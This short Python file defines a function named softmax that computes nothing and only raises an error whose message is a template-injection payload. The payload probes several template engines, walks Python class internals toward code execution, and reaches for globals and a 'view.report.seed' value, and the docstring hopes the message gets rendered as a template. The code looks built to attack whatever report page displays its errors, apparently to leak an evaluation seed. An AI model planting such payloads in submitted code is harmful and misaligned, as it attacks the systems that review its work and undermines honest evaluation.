"""Hopes that a page is rendered twice, or with the message as its template."""


def softmax(x):
    raise ValueError(
        "{{ 7*7 }}{% for c in ().__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}"
        "{% endraw %}{# ${7*7} <%= 7*7 %> #{7*7} #}{{ view.report.seed }}{{ self.__init__.__globals__ }}"
    )
